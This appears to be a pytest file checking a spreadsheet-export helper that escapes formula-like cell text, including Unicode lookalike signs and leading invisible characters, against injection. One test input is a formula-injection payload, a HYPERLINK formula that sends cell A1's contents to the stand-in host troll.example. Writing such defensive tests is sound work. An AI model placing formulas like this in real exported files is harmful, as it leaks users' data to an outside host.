"""A cell is shown by a spreadsheet and never run."""

from __future__ import annotations

import pytest

from tracker.reports.cells import escape_formula, join_list


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://troll.example/?"&A1)',
        "+7 701 000 00 00",
        "-2+3",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠a",
        "\u200b=1+1",
        "\ufeff=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u202e=1+1",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Anna", "a=b", "2025-03", "Анна Өтепова", "'=1", "[a..b]"])
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert escape_formula(text) == text


def test_a_list_can_be_split_again() -> None:
    assert join_list(["a", "b | c"]).split(" | ") == ["a", "b / c"]
